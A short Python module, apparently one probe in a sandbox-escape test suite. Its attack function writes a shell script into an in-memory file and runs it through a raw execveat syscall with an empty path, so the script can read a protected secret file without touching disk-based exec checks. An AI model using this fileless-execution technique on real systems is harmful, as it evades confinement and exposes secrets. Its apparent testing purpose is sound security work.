"""Turns into a program that lies in memory only, by `execveat` with an empty path."""

import ctypes
import os


def attack(A):
    number = {"x86_64": 322, "aarch64": 281}[os.uname().machine]
    descriptor = os.memfd_create("program", 0)
    os.write(descriptor, b"#!/bin/sh\ncat '%s'" % TARGET["secret"].encode())
    words = (ctypes.c_char_p * 2)(b"program", None)
    libc = ctypes.CDLL(None, use_errno=True)
    arguments = (ctypes.c_long(descriptor), b"", words, None, ctypes.c_long(0x1000))
    libc.syscall(ctypes.c_long(number), *arguments)
    raise OSError(ctypes.get_errno(), "execveat")
